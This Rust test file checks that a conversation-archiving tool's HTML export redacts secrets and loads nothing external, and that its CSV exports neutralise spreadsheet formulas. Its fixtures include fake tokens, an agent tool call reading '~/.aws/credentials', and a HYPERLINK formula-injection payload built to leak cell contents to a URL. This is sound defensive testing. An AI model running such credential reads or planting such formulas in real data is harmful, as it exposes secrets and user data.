//! Sharing what the archive holds: a conversation as one HTML file (`show --format html`, and
//! the session page's "Download HTML"), read in Chromium from a file:// URL as whoever it is
//! sent to reads it; the lists as CSV (`sessions --csv`, `usage --csv`, `/sessions.csv`,
//! `/usage.csv`), read back with the csv crate as a spreadsheet reads them.

use crate::ui::{ID, cookie, crafted, get, header, line, serve};
use crate::ui_home::{audit, axe_core};
use crate::util::{Env, cli, stderr, stdout_of};
use serde_json::{Value, json};
use std::fs;
use testkit::browser::Browser;

/// Secrets the default `[redact]` rules find: one in a prompt, one in a tool's output.
const GITHUB_TOKEN: &str = "ghp_Wi3vrM6jI6nLriRfmoRiJOM2ytq3aEGQ21Zz";
const AWS_KEY: &str = "AKIAJPJOMKEFOIUC5LGT";

/// The crafted session, its prompt holding a token and a tool's output a key, an answer with
/// links to the web (an image among them) and a pasted screenshot; archived.
fn archived_with_secrets(env: &Env) {
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
    let call = json!({"role": "assistant", "id": "msg_2", "model": "claude-opus-4-5", "content": [
        {"type": "tool_use", "id": "toolu_2", "name": "Bash", "input": {"command": "cat ~/.aws/credentials"}}]});
    let result = json!({"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_2",
        "content": format!("[default]\naws_access_key_id = {AWS_KEY}")}]});
    let links = json!({"role": "assistant", "id": "msg_3", "model": "claude-opus-4-5", "content": [
        {"type": "text", "text": "See [the docs](https://example.com/docs) and ![a chart](https://example.com/chart.png)"}]});
    let pasted = json!({"role": "user", "content": [
        {"type": "text", "text": "and this screenshot"},
        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": png}}]});
    crafted(
        env,
        &format!("Push the release with my token {GITHUB_TOKEN}, please."),
        &[
            line("assistant", "a2", 3, call),
            line("user", "u3", 4, result),
            line("assistant", "a3", 5, links),
            line("user", "u4", 6, pasted),
        ],
    );
    env.run_once_home();
}

/// A shared file without its export time, the one thing two exports of a session differ in.
fn without_export_time(html: &str) -> String {
    let (before, rest) = (html.split_once("<time class=\"exported\""))
        .unwrap_or_else(|| panic!("no export time in {html}"));
    let after = rest.split_once("</time>").unwrap().1;
    format!("{before}{after}")
}

/// What a browser would fetch that a file names: each `src`, `srcset`, `poster`, `data`
/// attribute, `<link>`, `@import` and `url(` that is not a `data:` URL.
fn fetched(html: &str) -> Vec<String> {
    let lower = html.to_ascii_lowercase();
    let mut found = Vec::new();
    for attribute in [" src=", " srcset=", " poster=", " data=", " background="] {
        for (at, _) in lower.match_indices(attribute) {
            let value = lower[at + attribute.len()..].trim_start_matches(['"', '\'']);
            if !value.starts_with("data:") {
                found.push(html[at..(at + 80).min(html.len())].to_owned());
            }
        }
    }
    for tag in [
        "<link", "@import", "url(", "<script", "<iframe", "<object", "<embed",
    ] {
        if let Some(at) = lower.find(tag) {
            found.push(html[at..(at + 80).min(html.len())].to_owned());
        }
    }
    found
}

/// `show --format html` writes one file that a browser opens from disk and reads whole: the
/// conversation with its tool output folded, no script, nothing fetched, and no secret
/// unless `--no-redact`; it passes axe-core in light and dark; the session page's
/// "Download HTML" gives the same file.
#[test]
fn a_shared_conversation_is_one_file_that_fetches_nothing_and_holds_no_secret() {
    let env = Env::new();
    archived_with_secrets(&env);
    let html = stdout_of(&env, &["show", ID, "--format", "html"]);
    for secret in [GITHUB_TOKEN, AWS_KEY] {
        assert!(!html.contains(secret), "{secret} in {html}");
    }
    assert!(html.contains("[REDACTED:"), "{html}");
    assert_eq!(html.matches("<style").count(), 1, "{html}");
    assert_eq!(fetched(&html), Vec::<String>::new());
    let kept = stdout_of(&env, &["show", ID, "--format", "html", "--no-redact"]);
    for secret in [GITHUB_TOKEN, AWS_KEY] {
        assert!(kept.contains(secret), "{secret} not in {kept}");
    }
    assert!(kept.contains("not redacted"), "{kept}");

    let file = env.dir.path().join("shared.html");
    fs::write(&file, &html).unwrap();
    let browser = Browser::start();
    browser.goto(&format!("file://{}", file.display()));
    browser.wait_for("section.conversation article.msg");
    assert_eq!(
        browser.script(
            "return performance.getEntriesByType('resource').map(e => e.name)",
            json!([])
        ),
        json!([]),
        "the file made requests"
    );
    assert!(browser.text("p.exported").contains("transcript-sync"));
    assert_eq!(
        browser.text("h1"),
        "Push the release with my token [REDACTED:github-token], please."
    );
    assert_eq!(browser.count("script"), 0);
    // The seven records, each a message.
    assert_eq!(browser.count("article.msg"), 7);
    let loaded = browser.script(
        "const i = document.querySelector('img.attached'); return i && i.complete && i.naturalWidth;",
        json!([]),
    );
    assert_eq!(loaded, 1, "the pasted image is shown, from the file itself");
    // Tool output is folded until opened, as on the web page.
    assert_eq!(browser.count("details[open]"), 0);
    let conversation = browser.text("main");
    assert!(
        !conversation.contains("archive/old-29.pdf"),
        "{conversation}"
    );
    assert!(conversation.contains("Bash"), "{conversation}");
    browser.click("details.tool-result summary");
    assert!(
        browser
            .text("details.tool-result")
            .contains("archive/old-29.pdf")
    );
    let axe = axe_core();
    for scheme in ["light", "dark"] {
        browser.cdp(
            "Emulation.setEmulatedMedia",
            json!({"features": [{"name": "prefers-color-scheme", "value": scheme}]}),
        );
        let violations = audit(&browser, &axe);
        assert!(violations.is_empty(), "{scheme}: {violations:#?}");
    }
    crate::ui::screenshot(&browser, "shared");

    // The session page's link gives the same file, as a download.
    let ui = serve(&env);
    browser.goto(&ui.url);
    browser.goto(&format!("{}/s/{ID}", ui.base));
    let link = browser.script(
        "return document.querySelector('a#share').getAttribute('href')",
        json!([]),
    );
    let link = link.as_str().unwrap().to_owned();
    let (status, headers, downloaded) = get(&ui, &link, &[("Cookie", &cookie(&ui))]);
    assert_eq!(status, 200);
    let disposition = header(&headers, "content-disposition");
    assert!(
        disposition.starts_with("attachment; filename=\"claude-code-"),
        "{disposition}"
    );
    assert_eq!(without_export_time(&downloaded), without_export_time(&html));
}

/// A cell as the CSV gives a JSON value: text as it is unless a spreadsheet would run it,
/// then with a `'` first; a list a line an item; `null` empty.
fn as_cell(value: &Value) -> String {
    let text = match value {
        Value::Null => return String::new(),
        Value::String(s) => s.clone(),
        Value::Array(items) => (items.iter())
            .map(|i| i.as_str().map_or(i.to_string(), str::to_owned))
            .collect::<Vec<_>>()
            .join("\n"),
        other => other.to_string(),
    };
    match text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        true => format!("'{text}"),
        false => text,
    }
}

/// `text`, CSV, read as a spreadsheet reads it: the header, then the rows.
fn read_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().iter().map(String::from).collect();
    let rows = (reader.records())
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// Each row of `rows` is the JSON object of the same place in `json`, column for column.
fn assert_rows_are(header: &[String], rows: &[Vec<String>], json: &[Value]) {
    assert_eq!(rows.len(), json.len());
    for (row, object) in rows.iter().zip(json) {
        for (name, cell) in header.iter().zip(row) {
            match &object[name] {
                // The test reads JSON's decimals to the nearest double but one, at times.
                Value::Number(n) if n.is_f64() => {
                    let (a, b) = (cell.parse::<f64>().unwrap(), n.as_f64().unwrap());
                    assert!((a - b).abs() <= b.abs() * 1e-12, "{name}: {cell} for {n}");
                }
                value => assert_eq!(*cell, as_cell(value), "{name} of {object}"),
            }
        }
        // Every field of the JSON has its column.
        for key in object.as_object().unwrap().keys() {
            assert!(header.contains(key), "no column {key}");
        }
    }
}

/// `sessions --csv` and `usage --csv` are the rows of `--json`, column for column, with a
/// header; a title that a spreadsheet would run as a formula is given a `'` first.
#[test]
fn the_lists_as_csv_are_their_json_with_formulas_neutralised() {
    let env = Env::new();
    let formula = "=HYPERLINK(\"https://example.com/?leak=\"&A1, \"click\")";
    crafted(&env, formula, &[]);
    let dir = env.dir.path().join("home/.claude/projects/-w-other");
    fs::create_dir_all(&dir).unwrap();
    let other = json!({"type": "user", "uuid": "o1", "sessionId": "7b2e9c14-1f3a-4d5b-8e6c-9a0b1c2d3e4f",
        "cwd": "/w/other, \"quoted\"", "timestamp": "2026-12-01T12:00:00.000Z",
        "message": {"role": "user", "content": "@SUM(1+1)\nand a second line"}});
    fs::write(
        dir.join("7b2e9c14-1f3a-4d5b-8e6c-9a0b1c2d3e4f.jsonl"),
        format!("{other}\n"),
    )
    .unwrap();
    env.run_once_home();

    let json: Vec<Value> = (stdout_of(&env, &["sessions", "--json"]).lines())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let (header, rows) = read_csv(&stdout_of(&env, &["sessions", "--csv"]));
    assert_eq!(header[..3], ["id", "machine", "git_remote"]);
    assert_rows_are(&header, &rows, &json);
    let titles: Vec<&str> = rows.iter().map(|r| r[5].as_str()).collect();
    assert!(
        titles.contains(&format!("'{formula}").as_str()),
        "{titles:?}"
    );
    assert!(
        titles.contains(&"'@SUM(1+1) and a second line"),
        "{titles:?}"
    );

    let json: Vec<Value> = (stdout_of(&env, &["usage", "--json", "--by", "model"]).lines())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let (header, rows) = read_csv(&stdout_of(&env, &["usage", "--csv", "--by", "model"]));
    assert_eq!(header[0], "of");
    assert_rows_are(&header, &rows, &json);
    assert_eq!(rows.last().unwrap()[0], "", "the total, last");

    let both = cli(&env, &["sessions", "--csv", "--json"]);
    assert!(!both.status.success());
    assert!(stderr(&both).contains("--json"), "{}", stderr(&both));
}

/// The sessions and usage pages link their CSV, which follows the page's filters and holds
/// what the command line's does.
#[test]
fn the_web_views_csv_follows_its_page() {
    let env = Env::new();
    archived_with_secrets(&env);
    let home = env.dir.path().join("home");
    crate::util::copy_agent_fixture("codex", &home);
    env.run_once_home();
    let ui = serve(&env);
    let cookie = cookie(&ui);
    let page = get(&ui, "/sessions?agent=codex", &[("Cookie", &cookie)]).2;
    assert!(
        page.contains("href=\"/sessions.csv?agent=codex\""),
        "{page}"
    );
    let (status, headers, body) = get(&ui, "/sessions.csv?agent=codex", &[("Cookie", &cookie)]);
    assert_eq!(status, 200);
    assert!(header(&headers, "content-type").starts_with("text/csv"));
    assert!(header(&headers, "content-disposition").starts_with("attachment"));
    let cli = stdout_of(&env, &["sessions", "--csv", "--harness", "codex"]);
    assert_eq!(read_csv(&body), read_csv(&cli));
    assert_eq!(read_csv(&body).1.len(), 1);

    let page = get(&ui, "/usage?by=agent&since=3650d", &[("Cookie", &cookie)]).2;
    assert!(
        page.contains("href=\"/usage.csv?by=agent&amp;since=3650d\""),
        "{page}"
    );
    let body = get(
        &ui,
        "/usage.csv?by=agent&since=3650d",
        &[("Cookie", &cookie)],
    )
    .2;
    let cli = stdout_of(&env, &["usage", "--csv", "--by", "agent"]);
    assert_eq!(read_csv(&body), read_csv(&cli));
    assert!(read_csv(&body).1.len() >= 2, "{body}");
    // A window after every call: the total alone, of none.
    let body = get(&ui, "/usage.csv?by=agent&since=1d", &[("Cookie", &cookie)]).2;
    let (_, rows) = read_csv(&body);
    assert_eq!(rows.len(), 1, "{body}");
    assert_eq!(rows[0][..2], ["", "0"], "{body}");

    // A session with a subagent: the subagent's row follows its parent's, as in the CLI's.
    let env = Env::new();
    crate::util::copy_agent_fixture("kimi-cli-subagent", &env.dir.path().join("home"));
    env.run_once_home();
    let ui = serve(&env);
    let cookie = crate::ui::cookie(&ui);
    let body = get(&ui, "/sessions.csv", &[("Cookie", &cookie)]).2;
    let cli = stdout_of(&env, &["sessions", "--csv"]);
    assert_eq!(read_csv(&body), read_csv(&cli));
    let (columns, rows) = read_csv(&body);
    let parent = columns.iter().position(|c| c == "parent").unwrap();
    assert_eq!(rows.len(), 2, "{body}");
    assert_eq!(rows[1][parent], rows[0][0], "{body}");
}
